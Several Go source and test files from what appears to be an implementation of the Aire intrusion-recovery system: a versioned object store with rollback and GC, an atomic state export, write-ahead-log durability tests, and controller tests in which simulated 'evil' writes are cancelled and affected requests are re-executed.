// AtomicExport is a consistent cut of every durable controller domain,
// captured under all the relevant locks at once.
type AtomicExport struct {
	ClockNow  int64
	IDCounter int64
	GCBefore  int64
	Records   []*repairlog.Record
	Objects   []vdb.ObjectDump
	Queue     []PendingMsg
	Inbox     []deliver.OriginDump
	Batch     []BatchedAction
}

// ExportAtomic captures the repair log, store, outgoing queue, dedup inbox,
// and accepted incoming batch in ONE critical section (Svc.Mu, then qmu,
// then inmu — the established acquisition order). Unlike capturing each
// domain separately, a pump delivery cannot reconcile a message away
// between the log capture and the queue capture, so the cut is consistent:
// this is what persist.Capture builds its snapshot from.
func (c *Controller) ExportAtomic() AtomicExport {
	c.Svc.Mu.Lock()
	defer c.Svc.Mu.Unlock()
	c.qmu.Lock()
	defer c.qmu.Unlock()
	c.inmu.Lock()
	defer c.inmu.Unlock()

	ex := AtomicExport{
		ClockNow:  c.Svc.Clock.Now(),
		IDCounter: c.Svc.IDs.Counter(),
		GCBefore:  c.Svc.Log.GCBefore(),
		Inbox:     c.dedup.Dump(),
	}
	for _, r := range c.Svc.Log.All() {
		ex.Records = append(ex.Records, r.Clone())
	}
	ex.Objects = c.Svc.Store.Dump()
	ex.Queue = make([]PendingMsg, 0, c.qlive)
	for _, p := range c.queue {
		if p.queued {
			ex.Queue = append(ex.Queue, *p)
		}
	}
	for _, q := range c.inbox {
		ex.Batch = append(ex.Batch, BatchedAction{
			Seq: q.seq, Action: q.action, Origin: q.gate.origin, ID: q.gate.id, Gen: q.gate.gen, Once: q.gate.once,
			Wave: q.wave, Hop: q.hop,
		})
	}
	return ex
}

// ImportBatch restores persisted accepted-batch actions, re-reserving
// their deliveries in the (already restored) dedup inbox.
func (c *Controller) ImportBatch(batch []BatchedAction) {
	for _, b := range batch {
		c.walBatchAccept(b)
	}
}
