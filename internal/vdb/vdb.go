// Package vdb implements the versioned database underlying Aire's local
// repair (§2.1).
//
// Like Warp's versioned database, the store keeps every version of every
// object: normal-operation writes append versions, repair rolls objects back
// by removing versions after a point in time, and re-execution reads the
// store "as of" the replayed request's logical timestamp. Versions carry the
// identity of the request that wrote them so the repair engine can tell
// which writer produced the state a reader observed.
//
// Objects belonging to application-versioned models (the paper's
// AppVersionedModel, §6) are immutable and are never rolled back; the ORM
// layer marks them with PutImmutable.
package vdb

import (
	"fmt"
	"sort"
	"sync"
)

// Key names an object: a model (table) plus an object ID.
type Key struct {
	Model string
	ID    string
}

func (k Key) String() string { return k.Model + "/" + k.ID }

// Version is one immutable snapshot of an object's fields.
type Version struct {
	// TS is the logical timestamp of the write (the writing request's
	// execution time on the service's timeline).
	TS int64
	// ReqID identifies the request that performed the write.
	ReqID string
	// Deleted marks a tombstone: the object does not exist at and after TS
	// until a later Put revives it.
	Deleted bool
	// Immutable marks an AppVersionedModel object; such versions survive
	// rollback (§6: "AppVersionedModel objects are not rolled back during
	// repair").
	Immutable bool
	// Fields holds the object's field values.
	Fields map[string]string

	// hash caches the value fingerprint, computed on insert.
	hash uint64
}

// FNV-64a constants, inlined so the hot hashing paths need no hash.Hash64
// allocation per call.
const (
	fnvOffset64 uint64 = 14695981039346656037
	fnvPrime64  uint64 = 1099511628211
)

func fnvString(h uint64, s string) uint64 {
	for i := 0; i < len(s); i++ {
		h = (h ^ uint64(s[i])) * fnvPrime64
	}
	return h
}

func fnvByte(h uint64, b byte) uint64 {
	return (h ^ uint64(b)) * fnvPrime64
}

// Hash returns a compact fingerprint of the version's visible value, used by
// the repair engine's precise read-dependency checks: a reader is affected
// only if the value it would read now differs from the value it read
// originally. Tombstones short-circuit to MissingHash before any work.
func (v Version) Hash() uint64 {
	if v.Deleted {
		return 0
	}
	if v.hash != 0 {
		return v.hash
	}
	// Small field maps (the overwhelmingly common case) sort in a
	// stack-resident array instead of a fresh heap slice per call.
	var kbuf [16]string
	keys := kbuf[:0]
	if len(v.Fields) > len(kbuf) {
		keys = make([]string, 0, len(v.Fields))
	}
	for k := range v.Fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	h := fnvOffset64
	for _, k := range keys {
		h = fnvString(h, k)
		h = fnvByte(h, 0)
		h = fnvString(h, v.Fields[k])
		h = fnvByte(h, 1)
	}
	// Ensure a live version never hashes to the "missing" sentinel 0.
	if h == 0 {
		h = 1
	}
	return h
}

// MissingHash is the read-dependency fingerprint recorded when a read found
// no live object.
const MissingHash uint64 = 0

// modelIndex is the per-model secondary index: the sorted member list (every
// object of the model with at least one version) plus an incrementally
// maintained fingerprint of the model's current live scan state. It lets
// IDs/IDsAt/ScanHashAt(Excluding) walk only the model's members instead of
// the whole object map, and answers present-time scan fingerprints in O(1).
type modelIndex struct {
	// ids is the sorted list of member object IDs (live or tombstoned).
	ids []string
	// curFP is the commutative scan fingerprint of the model's present
	// state: the wrapping sum of scanContrib(id, hash) over live members,
	// updated on every Put/Delete/Rollback.
	curFP uint64
	// lastTS is a high-water mark of version timestamps in the model:
	// ScanHashAt(ts >= lastTS) can answer from curFP. Rollback may leave it
	// higher than any remaining version, which only disables the fast path.
	lastTS int64
}

// scanContrib is one member's contribution to a model's scan fingerprint.
// Contributions combine by wrapping addition, so the fingerprint is
// order-independent and can be maintained incrementally under mutation.
func scanContrib(id string, vh uint64) uint64 {
	h := fnvString(fnvOffset64, id)
	h = fnvByte(h, 0)
	for i := 0; i < 8; i++ {
		h = fnvByte(h, byte(vh>>(8*i)))
	}
	return h
}

// Store is a multi-version object store. The zero value is not usable;
// create one with NewStore. Store is safe for concurrent use.
type Store struct {
	mu           sync.RWMutex
	objects      map[Key][]Version // versions sorted by TS ascending
	models       map[string]*modelIndex
	confidential map[Key]bool
	versionBytes int64 // total encoded size of versions ever written (Table 4 "DB" accounting)
	gcBefore     int64
	latestOnly   bool
	// sink observes every mutation for write-ahead logging (see wal.go).
	sink func(Change)
}

// NewStore returns an empty versioned store.
func NewStore() *Store {
	return &Store{
		objects:      make(map[Key][]Version),
		models:       make(map[string]*modelIndex),
		confidential: make(map[Key]bool),
	}
}

// model returns (creating if needed) the model's index. Caller holds mu.
func (s *Store) model(name string) *modelIndex {
	idx := s.models[name]
	if idx == nil {
		idx = &modelIndex{}
		s.models[name] = idx
	}
	return idx
}

// liveContribLocked returns the object's current contribution to its model's
// scan fingerprint (0 if absent or tombstoned). Caller holds mu.
func liveContribLocked(k Key, vs []Version) uint64 {
	if len(vs) == 0 {
		return 0
	}
	last := vs[len(vs)-1]
	if last.Deleted {
		return 0
	}
	return scanContrib(k.ID, last.Hash())
}

// indexInsertLocked adds the object to its model's member list (no-op if
// already present). Caller holds mu.
func (s *Store) indexInsertLocked(k Key) {
	idx := s.model(k.Model)
	i := sort.SearchStrings(idx.ids, k.ID)
	if i < len(idx.ids) && idx.ids[i] == k.ID {
		return
	}
	idx.ids = append(idx.ids, "")
	copy(idx.ids[i+1:], idx.ids[i:])
	idx.ids[i] = k.ID
}

// indexRemoveLocked drops the object from its model's member list (when its
// last version is removed). Caller holds mu.
func (s *Store) indexRemoveLocked(k Key) {
	idx := s.models[k.Model]
	if idx == nil {
		return
	}
	i := sort.SearchStrings(idx.ids, k.ID)
	if i < len(idx.ids) && idx.ids[i] == k.ID {
		idx.ids = append(idx.ids[:i], idx.ids[i+1:]...)
	}
}

// NewStoreLatestOnly returns a store that keeps only the newest version of
// each object, emulating a plain (non-versioned) database. It exists solely
// as the "without Aire" baseline of the Table 4 overhead experiments;
// rollback and time travel do not work on it.
func NewStoreLatestOnly() *Store {
	s := NewStore()
	s.latestOnly = true
	return s
}

// approxSize estimates the storage footprint of a version, mirroring the
// paper's per-request database checkpoint accounting (Table 4).
func approxSize(k Key, fields map[string]string) int64 {
	n := int64(len(k.Model) + len(k.ID) + 16)
	for f, v := range fields {
		n += int64(len(f) + len(v) + 2)
	}
	return n
}

// Put appends a new version of the object at timestamp ts, written by reqID.
// Writes must not travel into the past: ts must be >= the newest existing
// version's timestamp. Multiple writes by the same request at the same
// timestamp coalesce into one version (last write wins within a request).
func (s *Store) Put(k Key, fields map[string]string, ts int64, reqID string) error {
	return s.put(k, fields, ts, reqID, false, false)
}

// Delete appends a tombstone version at ts.
func (s *Store) Delete(k Key, ts int64, reqID string) error {
	return s.put(k, nil, ts, reqID, true, false)
}

// PutImmutable writes an AppVersionedModel object: exactly one version that
// survives rollback. Writing an existing immutable key with identical fields
// is a no-op; with different fields it is an error (immutable objects cannot
// change — the application must mint a fresh ID, §5.2).
func (s *Store) PutImmutable(k Key, fields map[string]string, ts int64, reqID string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if vs := s.objects[k]; len(vs) > 0 {
		old := vs[len(vs)-1]
		if !old.Immutable {
			return fmt.Errorf("vdb: %v exists as a mutable object", k)
		}
		if old.Hash() == (Version{Fields: fields}).Hash() {
			return nil
		}
		return fmt.Errorf("vdb: immutable object %v already exists with different value", k)
	}
	nv := Version{TS: ts, ReqID: reqID, Immutable: true, Fields: copyFields(fields)}
	nv.hash = nv.Hash()
	s.objects[k] = []Version{nv}
	s.versionBytes += approxSize(k, fields)
	s.indexInsertLocked(k)
	idx := s.model(k.Model)
	idx.curFP += scanContrib(k.ID, nv.Hash())
	if ts > idx.lastTS {
		idx.lastTS = ts
	}
	s.emitPutLocked(k, nv)
	return nil
}

func (s *Store) put(k Key, fields map[string]string, ts int64, reqID string, deleted, immutable bool) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	vs := s.objects[k]
	oldContrib := liveContribLocked(k, vs)
	if s.latestOnly && len(vs) > 0 && !vs[len(vs)-1].Immutable {
		vs = vs[:0] // plain-database semantics: overwrite in place
	}
	if len(vs) > 0 {
		last := vs[len(vs)-1]
		if last.Immutable {
			return fmt.Errorf("vdb: cannot overwrite immutable object %v", k)
		}
		if ts < last.TS {
			return fmt.Errorf("vdb: write into the past: %v at ts %d < latest %d", k, ts, last.TS)
		}
		if ts == last.TS && last.ReqID == reqID {
			// Same request overwriting its own write: coalesce.
			nv := Version{TS: ts, ReqID: reqID, Deleted: deleted, Fields: copyFields(fields)}
			nv.hash = nv.Hash()
			vs[len(vs)-1] = nv
			s.versionBytes += approxSize(k, fields)
			s.finishPutLocked(k, nv, oldContrib)
			s.emitPutLocked(k, nv)
			return nil
		}
		if ts == last.TS {
			return fmt.Errorf("vdb: conflicting writes to %v at ts %d by %s and %s", k, ts, last.ReqID, reqID)
		}
	}
	nv := Version{TS: ts, ReqID: reqID, Deleted: deleted, Fields: copyFields(fields)}
	nv.hash = nv.Hash()
	s.objects[k] = append(vs, nv)
	s.versionBytes += approxSize(k, fields)
	s.finishPutLocked(k, nv, oldContrib)
	s.emitPutLocked(k, nv)
	return nil
}

// finishPutLocked maintains the model index after a successful write: the
// member list gains the object on first write, and the current-scan
// fingerprint swaps the object's old live contribution for the new one.
// Caller holds mu.
func (s *Store) finishPutLocked(k Key, nv Version, oldContrib uint64) {
	s.indexInsertLocked(k)
	idx := s.model(k.Model)
	idx.curFP -= oldContrib
	if !nv.Deleted {
		idx.curFP += scanContrib(k.ID, nv.Hash())
	}
	if nv.TS > idx.lastTS {
		idx.lastTS = nv.TS
	}
}

func copyFields(m map[string]string) map[string]string {
	c := make(map[string]string, len(m))
	for k, v := range m {
		c[k] = v
	}
	return c
}

// Get returns the newest live version of the object.
func (s *Store) Get(k Key) (Version, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	vs := s.objects[k]
	if len(vs) == 0 {
		return Version{}, false
	}
	v := vs[len(vs)-1]
	if v.Deleted {
		return Version{}, false
	}
	return v.clone(), true
}

// GetAt returns the version of the object visible at timestamp ts: the
// newest version with TS <= ts. It reports false if the object did not exist
// or was deleted at ts.
func (s *Store) GetAt(k Key, ts int64) (Version, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	vs := s.objects[k]
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	if i == 0 {
		return Version{}, false
	}
	v := vs[i-1]
	if v.Deleted {
		return Version{}, false
	}
	return v.clone(), true
}

// HashAt returns the value fingerprint of the object at ts (MissingHash if
// absent). This is the fast path used by precise read-dependency checks.
func (s *Store) HashAt(k Key, ts int64) uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	vs := s.objects[k]
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	if i == 0 || vs[i-1].Deleted {
		return MissingHash
	}
	return vs[i-1].Hash()
}

// HashAtExcluding is HashAt but ignores the version written by reqID itself.
// The repair engine evaluates a request's read dependencies with its own
// writes masked out: a read performed before the request's own write
// observed the previous version, and comparing against the post-write state
// would make every read-modify-write request look permanently affected.
func (s *Store) HashAtExcluding(k Key, ts int64, reqID string) uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	vs := s.objects[k]
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	// A request's writes coalesce into a single version, so stepping back
	// one version past our own write suffices.
	if i > 0 && vs[i-1].ReqID == reqID && !vs[i-1].Immutable {
		i--
	}
	if i == 0 || vs[i-1].Deleted {
		return MissingHash
	}
	return vs[i-1].Hash()
}

// hashAtLocked is HashAt without locking. Caller holds mu (read or write).
func (s *Store) hashAtLocked(k Key, ts int64) uint64 {
	vs := s.objects[k]
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	if i == 0 || vs[i-1].Deleted {
		return MissingHash
	}
	return vs[i-1].Hash()
}

// hashAtExcludingLocked is HashAtExcluding without locking. Caller holds mu.
func (s *Store) hashAtExcludingLocked(k Key, ts int64, reqID string) uint64 {
	vs := s.objects[k]
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	if i > 0 && vs[i-1].ReqID == reqID && !vs[i-1].Immutable {
		i--
	}
	if i == 0 || vs[i-1].Deleted {
		return MissingHash
	}
	return vs[i-1].Hash()
}

// ScanHashAtExcluding is ScanHashAt with reqID's own versions masked out,
// for the same reason as HashAtExcluding: a scan dependency must fingerprint
// the state the request observed from *others*, which replay regenerates
// deterministically.
//
// The whole fingerprint is computed over the model's member index under one
// read lock: it is a consistent snapshot (concurrent writers cannot
// interleave mid-fingerprint) and costs O(members of model), not a walk and
// sort of the entire object map plus one lock acquisition per member.
func (s *Store) ScanHashAtExcluding(model string, ts int64, reqID string) uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var fp uint64
	idx := s.models[model]
	if idx == nil {
		return 0
	}
	for _, id := range idx.ids {
		vh := s.hashAtExcludingLocked(Key{Model: model, ID: id}, ts, reqID)
		if vh == MissingHash {
			continue
		}
		fp += scanContrib(id, vh)
	}
	return fp
}

// ScanHashAtExcludingLinear is the pre-index reference implementation of
// ScanHashAtExcluding: a full object-map walk with per-member lock
// round-trips. Retained for the randomized equivalence tests and the
// before/after benchmarks; production code uses ScanHashAtExcluding.
func (s *Store) ScanHashAtExcludingLinear(model string, ts int64, reqID string) uint64 {
	s.mu.RLock()
	ids := make([]string, 0, 16)
	for k := range s.objects {
		if k.Model == model {
			ids = append(ids, k.ID)
		}
	}
	s.mu.RUnlock()
	sort.Strings(ids)
	var fp uint64
	for _, id := range ids {
		vh := s.HashAtExcluding(Key{Model: model, ID: id}, ts, reqID)
		if vh == MissingHash {
			continue
		}
		fp += scanContrib(id, vh)
	}
	return fp
}

// HasVersion reports whether the object still has the exact version written
// at ts by reqID. The repair engine uses this to detect writes that were
// rolled back and must be re-executed ("queries that might have modified the
// rows that have been rolled back", §2.1).
func (s *Store) HasVersion(k Key, ts int64, reqID string) bool {
	s.mu.RLock()
	defer s.mu.RUnlock()
	for _, v := range s.objects[k] {
		if v.TS == ts && v.ReqID == reqID {
			return true
		}
		if v.TS > ts {
			break
		}
	}
	return false
}

// Rollback removes all mutable versions of the object with TS > ts and
// returns how many were removed. Immutable versions survive.
func (s *Store) Rollback(k Key, ts int64) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	removed := s.rollbackLocked(k, ts)
	if removed > 0 {
		s.emitLocked(Change{Kind: "rollback", Key: k, TS: ts})
	}
	return removed
}

func (s *Store) rollbackLocked(k Key, ts int64) int {
	vs := s.objects[k]
	if len(vs) == 0 {
		return 0
	}
	if vs[len(vs)-1].Immutable {
		return 0
	}
	i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
	removed := len(vs) - i
	if removed > 0 {
		idx := s.model(k.Model)
		idx.curFP -= liveContribLocked(k, vs)
		s.objects[k] = vs[:i]
		if i == 0 {
			delete(s.objects, k)
			s.indexRemoveLocked(k)
		} else {
			idx.curFP += liveContribLocked(k, vs[:i])
		}
	}
	return removed
}

// IDs returns the sorted IDs of all live objects of the model at present.
// The model's member index is already sorted, so this walks only the
// model's members and performs no sort.
func (s *Store) IDs(model string) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	idx := s.models[model]
	if idx == nil {
		return nil
	}
	var ids []string
	for _, id := range idx.ids {
		vs := s.objects[Key{Model: model, ID: id}]
		if len(vs) == 0 || vs[len(vs)-1].Deleted {
			continue
		}
		ids = append(ids, id)
	}
	return ids
}

// IDsAt returns the sorted IDs of all objects of the model live at ts.
func (s *Store) IDsAt(model string, ts int64) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	idx := s.models[model]
	if idx == nil {
		return nil
	}
	var ids []string
	for _, id := range idx.ids {
		vs := s.objects[Key{Model: model, ID: id}]
		i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
		if i == 0 || vs[i-1].Deleted {
			continue
		}
		ids = append(ids, id)
	}
	return ids
}

// IDsAtLinear is the pre-index reference implementation of IDsAt (full map
// walk plus sort), retained for equivalence tests.
func (s *Store) IDsAtLinear(model string, ts int64) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var ids []string
	for k, vs := range s.objects {
		if k.Model != model {
			continue
		}
		i := sort.Search(len(vs), func(i int) bool { return vs[i].TS > ts })
		if i == 0 || vs[i-1].Deleted {
			continue
		}
		ids = append(ids, k.ID)
	}
	sort.Strings(ids)
	return ids
}

// ScanHashAt fingerprints the set of live (id, value-hash) pairs of a model
// at ts. Scan dependencies recorded by list queries compare this fingerprint
// during repair: a scan is affected only if membership or any member's value
// changed.
//
// Fingerprints combine member contributions by wrapping addition, so the
// model's present-time fingerprint is answered in O(1) from the
// incrementally maintained index; historical timestamps walk the member
// list under a single lock.
func (s *Store) ScanHashAt(model string, ts int64) uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	idx := s.models[model]
	if idx == nil {
		return 0
	}
	if ts >= idx.lastTS {
		// Every version in the model is visible at ts: the maintained
		// current fingerprint is the answer.
		return idx.curFP
	}
	var fp uint64
	for _, id := range idx.ids {
		vh := s.hashAtLocked(Key{Model: model, ID: id}, ts)
		if vh == MissingHash {
			continue
		}
		fp += scanContrib(id, vh)
	}
	return fp
}

// ScanHashAtLinear is the pre-index reference implementation of ScanHashAt
// (full map walk, sort, per-member lock round-trips), retained for the
// randomized equivalence tests.
func (s *Store) ScanHashAtLinear(model string, ts int64) uint64 {
	ids := s.IDsAtLinear(model, ts)
	var fp uint64
	for _, id := range ids {
		vh := s.HashAt(Key{Model: model, ID: id}, ts)
		if vh == MissingHash {
			continue
		}
		fp += scanContrib(id, vh)
	}
	return fp
}

// Versions returns a copy of all versions of the object (oldest first).
func (s *Store) Versions(k Key) []Version {
	s.mu.RLock()
	defer s.mu.RUnlock()
	vs := s.objects[k]
	out := make([]Version, len(vs))
	for i, v := range vs {
		out[i] = v.clone()
	}
	return out
}

func (v Version) clone() Version {
	c := v
	c.Fields = copyFields(v.Fields)
	return c
}

// MarkConfidential flags an object for leak reporting (§9): after repair,
// Aire reports requests that read the object during original execution but
// not during replay.
func (s *Store) MarkConfidential(k Key) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.confidential[k] = true
}

// IsConfidential reports whether the object was marked confidential.
func (s *Store) IsConfidential(k Key) bool {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.confidential[k]
}

// VersionBytes returns the cumulative encoded size of all versions ever
// written, the equivalent of the paper's per-request database checkpoint
// storage cost (Table 4).
func (s *Store) VersionBytes() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.versionBytes
}

// IndexBytes estimates the memory footprint of the store's secondary
// index layer: the per-model sorted member lists plus the incrementally
// maintained scan fingerprints. Table 4's "DB" accounting (VersionBytes)
// deliberately mirrors the paper and ignores this overhead; IndexBytes
// makes it visible so storage-cost claims can include it (ROADMAP: "index
// memory is unaccounted"). The estimate mirrors approxSize's spirit —
// string bytes plus fixed per-slot overheads — not Go allocator truth.
func (s *Store) IndexBytes() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var n int64
	for name, idx := range s.models {
		// map slot + model name + modelIndex (slice header, curFP, lastTS).
		n += int64(len(name)) + 16 + 40
		for _, id := range idx.ids {
			n += int64(len(id)) + 16 // member slot: string header + bytes
		}
	}
	return n
}

// ObjectCount returns the number of objects with at least one version.
func (s *Store) ObjectCount() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.objects)
}

// GC discards versions older than beforeTS (§9): for every object, versions
// with TS < beforeTS are squashed into the single newest such version, which
// becomes the object's base state. After GC the store cannot answer GetAt
// queries before beforeTS; GCBefore exposes the horizon so the repair
// controller can refuse repairs of garbage-collected requests.
func (s *Store) GC(beforeTS int64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.gcLocked(beforeTS)
	s.emitLocked(Change{Kind: "gc", TS: beforeTS})
}

func (s *Store) gcLocked(beforeTS int64) {
	if beforeTS > s.gcBefore {
		s.gcBefore = beforeTS
	}
	for k, vs := range s.objects {
		i := sort.Search(len(vs), func(i int) bool { return vs[i].TS >= beforeTS })
		if i <= 1 {
			continue
		}
		// Keep vs[i-1] as the base, drop everything before it.
		kept := append([]Version(nil), vs[i-1:]...)
		s.objects[k] = kept
	}
}

// GCBefore returns the garbage-collection horizon (0 if GC never ran).
func (s *Store) GCBefore() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.gcBefore
}

// ObjectDump is the serializable state of one object.
type ObjectDump struct {
	Key      Key       `json:"key"`
	Versions []Version `json:"versions"`
}

// Dump exports every object's version history in deterministic (key) order,
// for persistence.
func (s *Store) Dump() []ObjectDump {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]ObjectDump, 0, len(s.objects))
	for k, vs := range s.objects {
		cp := make([]Version, len(vs))
		for i, v := range vs {
			cp[i] = v.clone()
		}
		out = append(out, ObjectDump{Key: k, Versions: cp})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Key.Model != out[j].Key.Model {
			return out[i].Key.Model < out[j].Key.Model
		}
		return out[i].Key.ID < out[j].Key.ID
	})
	return out
}

// Restore loads a Dump into an empty store, recomputing cached hashes,
// storage accounting, and the per-model member indexes and scan
// fingerprints.
func (s *Store) Restore(dump []ObjectDump) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.objects) != 0 {
		return fmt.Errorf("vdb: Restore requires an empty store")
	}
	for _, od := range dump {
		vs := make([]Version, len(od.Versions))
		for i, v := range od.Versions {
			v.Fields = copyFields(v.Fields)
			v.hash = 0
			v.hash = v.Hash()
			vs[i] = v
			s.versionBytes += approxSize(od.Key, v.Fields)
		}
		if len(vs) == 0 {
			continue
		}
		s.objects[od.Key] = vs
		s.indexInsertLocked(od.Key)
		idx := s.model(od.Key.Model)
		idx.curFP += liveContribLocked(od.Key, vs)
		if last := vs[len(vs)-1].TS; last > idx.lastTS {
			idx.lastTS = last
		}
	}
	return nil
}
