package wal

import (
	"encoding/json"
	"fmt"
	"sync"
	"testing"
)

// TestSyncedSeqCoversEverythingBelow: after SyncedSeq returns, a power loss
// must keep every entry at or below the returned sequence — the checkpoint
// protocol reads its covered sequence this way.
func TestSyncedSeqCoversEverythingBelow(t *testing.T) {
	dir := t.TempDir()
	w, err := Open(dir, Options{Policy: FsyncNone})
	if err != nil {
		t.Fatal(err)
	}
	mustAppend(t, w, "x", 5)
	covered, err := w.SyncedSeq()
	if err != nil {
		t.Fatal(err)
	}
	if covered != 5 {
		t.Fatalf("SyncedSeq = %d, want 5", covered)
	}
	mustAppend(t, w, "x", 2) // unsynced tail, fair game for power loss
	if _, err := w.CrashLose(); err != nil {
		t.Fatal(err)
	}
	_, last, _ := collect(t, dir, 0)
	if last < covered {
		t.Fatalf("power loss kept entries up to %d, but SyncedSeq claimed %d durable", last, covered)
	}
}

// TestGroupCommitConcurrentAppends hammers Append from many goroutines
// under fsync=every: the flush runs outside the writer's append lock as a
// group commit, and every Append that returned must survive a power loss.
func TestGroupCommitConcurrentAppends(t *testing.T) {
	dir := t.TempDir()
	w, err := Open(dir, Options{Policy: FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	const goroutines, each = 8, 25
	var wg sync.WaitGroup
	errs := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < each; i++ {
				data, _ := json.Marshal(map[string]int{"g": g, "i": i})
				if _, err := w.Append("conc", int64(i), 0, []Op{{Kind: "t", Data: data}}); err != nil {
					errs <- fmt.Errorf("append g=%d i=%d: %w", g, i, err)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	lost, err := w.CrashLose()
	if err != nil {
		t.Fatal(err)
	}
	if lost != 0 {
		t.Fatalf("fsync=every lost %d bytes across group commits", lost)
	}
	entries, last, torn := collect(t, dir, 0)
	if torn || last != goroutines*each || len(entries) != goroutines*each {
		t.Fatalf("n=%d last=%d torn=%v, want %d intact entries", len(entries), last, torn, goroutines*each)
	}
}
