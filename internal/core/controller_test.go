package core

import (
	"strings"
	"testing"

	"aire/internal/warp"
	"aire/internal/wire"
)

func TestNormalOperationLogsAndHeaders(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())

	resp := tb.call("store", put("x", "a"))
	if !resp.OK() {
		t.Fatalf("put failed: %+v", resp)
	}
	reqID := resp.Header[wire.HdrRequestID]
	if reqID == "" {
		t.Fatal("response must carry Aire-Request-Id (§3.1)")
	}
	rec, ok := c.Svc.Log.Get(reqID)
	if !ok {
		t.Fatal("request not logged")
	}
	if len(rec.Writes) != 1 {
		t.Fatalf("write deps = %d, want 1", len(rec.Writes))
	}
	if got := tb.call("store", get("x")); string(got.Body) != "a" {
		t.Fatalf("get = %q", got.Body)
	}
}

func TestLocalRepairCancelsAttack(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())

	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))
	tb.call("store", put("y", "other"))
	if string(tb.call("store", get("x")).Body) != "evil" {
		t.Fatal("attack write missing")
	}

	res, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	if err != nil {
		t.Fatal(err)
	}
	// The cancelled attack plus the probing get(x) that read the attack
	// value; put(y) is untouched (selective re-execution).
	if res.RepairedRequests != 2 {
		t.Fatalf("repaired %d requests, want 2", res.RepairedRequests)
	}
	if got := string(tb.call("store", get("x")).Body); got != "good" {
		t.Fatalf("after repair x = %q, want good", got)
	}
	if got := string(tb.call("store", get("y")).Body); got != "other" {
		t.Fatalf("legitimate write lost: y = %q", got)
	}
}

func TestRepairReexecutesAffectedReaders(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())

	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))
	sum := tb.call("store", wire.NewRequest("GET", "/sum")) // scans all keys: affected
	unrelatedGet := tb.call("store", get("x"))              // read of x: affected
	if !strings.Contains(string(sum.Body), "evil") {
		t.Fatal("scan should have seen attack value")
	}

	res, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	if err != nil {
		t.Fatal(err)
	}
	// attack cancelled + sum re-executed + get re-executed.
	if res.RepairedRequests != 3 {
		t.Fatalf("repaired %d requests, want 3", res.RepairedRequests)
	}
	sumRec, _ := c.Svc.Log.Get(sum.Header[wire.HdrRequestID])
	if strings.Contains(string(sumRec.Resp.Body), "evil") {
		t.Fatalf("repaired scan response still mentions attack: %q", sumRec.Resp.Body)
	}
	getRec, _ := c.Svc.Log.Get(unrelatedGet.Header[wire.HdrRequestID])
	if string(getRec.Resp.Body) != "good" {
		t.Fatalf("repaired get response = %q, want good", getRec.Resp.Body)
	}
}

func TestPreciseReadCheckSkipsUnaffected(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())

	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("y", "evil")) // different key
	tb.call("store", get("x"))                   // reads only x: unaffected
	tb.call("store", get("y"))                   // reads y: affected

	res, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	if err != nil {
		t.Fatal(err)
	}
	if res.RepairedRequests != 2 { // cancel + get(y)
		t.Fatalf("repaired %d requests, want 2", res.RepairedRequests)
	}
}

func TestReplaceRequest(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())

	bad := tb.call("store", put("x", "typo"))
	tb.call("store", get("x"))

	_, err := c.ApplyLocal(warp.Action{
		Kind:   warp.ReplaceReq,
		ReqID:  bad.Header[wire.HdrRequestID],
		NewReq: put("x", "fixed"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := string(tb.call("store", get("x")).Body); got != "fixed" {
		t.Fatalf("x = %q after replace", got)
	}
}

func TestCrossServiceDeletePropagates(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
